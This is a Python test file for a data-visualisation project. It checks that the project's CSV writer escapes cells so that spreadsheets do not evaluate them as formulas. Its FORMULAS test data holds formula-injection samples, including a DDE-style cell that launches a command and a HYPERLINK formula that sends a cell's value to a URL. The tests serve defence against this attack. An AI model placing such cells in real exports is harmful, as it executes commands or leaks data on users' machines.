"""No text in a CSV file is a formula to a spreadsheet, however the names in it begin."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import numpy as np
import pytest

from fixviz.csv_files import csv_cell, csv_comment, write_rows
from fixviz.reading.exports.archive import probabilities_csv
from fixviz.reading.tables import to_csv

ROOT = Path(__file__).parents[1]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n@x",
    "-x",
]


def opened(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.lstrip()[:1] in ("=", "+", "-", "@")
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_be_computed_begins_with_an_apostrophe(text: str) -> None:
    assert csv_cell(text).startswith("'")
    assert csv_cell(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["-0.5", "+3", "1e-9", "-1.5E+3", "-inf", "nan", "", "a=b", "'x"])
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert csv_cell(text) == text


def test_numbers_are_written_as_numbers() -> None:
    file = io.StringIO()
    write_rows(file, [["name", "value"], ["=x", -0.25], ["y", None], ["z", -3]])
    assert opened(file.getvalue()) == [["name", "value"], ["'=x", "-0.25"], ["y", ""], ["z", "-3"]]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("glue", [",", ";", "\t", ',"', ";'"])
def test_no_cell_is_a_formula_whatever_separates_the_cells(delimiter: str, glue: str) -> None:
    hostile = f"a{glue}=1+1"
    text = to_csv({hostile: [hostile, hostile], "value": [-1.5, np.nan]}, f"Clip: {hostile}")
    cells = [cell for row in opened(text, delimiter) for cell in row]
    assert len(cells) > 3
    assert not [cell for cell in cells if is_formula(cell)]


def test_a_comment_is_one_line() -> None:
    assert csv_comment("a\n=1,=2") == "# a =1,'=2\n"


def test_the_probabilities_of_a_run_hold_no_formula() -> None:
    manifest = {
        "frames": {"timestamp_s": [0.0, 0.125, 0.25]},
        "models": [
            {
                "name": "own",
                "classes": FORMULAS,
                "windows": {"start": [0, 1], "frames": 2},
                "probabilities": np.full((2, len(FORMULAS)), 0.1).tolist(),
            }
        ],
    }
    rows = opened(probabilities_csv(manifest))
    assert [row[-2] for row in rows[1:]] == [csv_cell(name) for name in FORMULAS] * 2
    assert {row[-1] for row in rows[1:]} == {"0.1"}


def test_every_csv_file_is_written_by_this_module() -> None:
    """Reading is free: csv.reader, csv.DictReader."""
    writers = {"writer", "DictWriter"}
    found = []
    for path in (ROOT / "fixviz").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if not isinstance(node, ast.Attribute) or node.attr not in writers:
                continue
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(path.name)
    assert found == ["csv_files.py"]
